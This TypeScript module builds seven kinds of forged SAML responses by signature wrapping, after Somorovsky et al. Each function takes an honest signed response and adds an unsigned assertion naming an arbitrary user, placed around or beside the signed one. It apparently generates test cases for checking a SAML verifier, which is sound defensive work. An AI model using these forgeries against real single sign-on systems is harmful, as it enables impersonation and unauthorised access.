/**
 * Signature wrapping (Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", 2012): the signed assertion stays
 * as it was, somewhere, and another one says who comes. Each takes an honest response and makes a forged one of it.
 */
type Forge = (response: string, user: string) => string

interface Parts {
  before: string
  assertion: string
  after: string
  signature: string
  /** The assertion of the attacker, without a signature. */
  forged: string
}

function partsOf(response: string, user: string): Parts {
  const [whole, before, assertion, after] =
    /^([\s\S]*?)(<saml:Assertion[\s\S]*<\/saml:Assertion>)([\s\S]*)$/.exec(response) ?? []
  const signature = assertion && /<Signature[\s\S]*<\/Signature>/.exec(assertion)?.[0]
  if (!whole || !before || !after || !assertion || !signature) throw new Error(`no signed assertion in ${response}`)
  const forged = assertion
    .replace(signature, '')
    .replace(/ID="[^"]*"/, 'ID="_forged"')
    .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${user}`)
  return { before, assertion, after, signature, forged }
}

/** `place` of the forged one: before its end tag, or after its issuer. */
const insert = (assertion: string, what: string) => assertion.replace('</saml:Issuer>', `</saml:Issuer>${what}`)

export const wrappings: readonly [where: string, forge: Forge][] = [
  [
    'before it',
    (response, user) => {
      const { before, assertion, after, forged } = partsOf(response, user)
      return before + forged + assertion + after
    },
  ],
  [
    'after it',
    (response, user) => {
      const { before, assertion, after, forged } = partsOf(response, user)
      return before + assertion + forged + after
    },
  ],
  [
    'around it',
    (response, user) => {
      const { before, assertion, after, forged } = partsOf(response, user)
      return before + insert(forged, assertion) + after
    },
  ],
  [
    'with its signature, and the signed one in an object of it',
    (response, user) => {
      const { before, assertion, after, signature, forged } = partsOf(response, user)
      const bare = assertion.replace(signature, '')
      const wrapped = signature.replace('</Signature>', `<Object>${bare}</Object></Signature>`)
      return before + insert(forged, wrapped) + after
    },
  ],
  [
    'with its signature, and the signed one in the extensions',
    (response, user) => {
      const { before, assertion, after, signature, forged } = partsOf(response, user)
      const extensions = `<samlp:Extensions>${assertion.replace(signature, '')}</samlp:Extensions>`
      return before + extensions + insert(forged, signature) + after
    },
  ],
  [
    'with its signature and its name',
    (response, user) => {
      const { before, assertion, after, signature, forged } = partsOf(response, user)
      const id = /ID="([^"]*)"/.exec(assertion)![1]
      return before + insert(forged.replace('ID="_forged"', `ID="${id}"`), signature) + assertion + after
    },
  ],
  ['in its place', (response, user) => response.replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${user}`)],
]
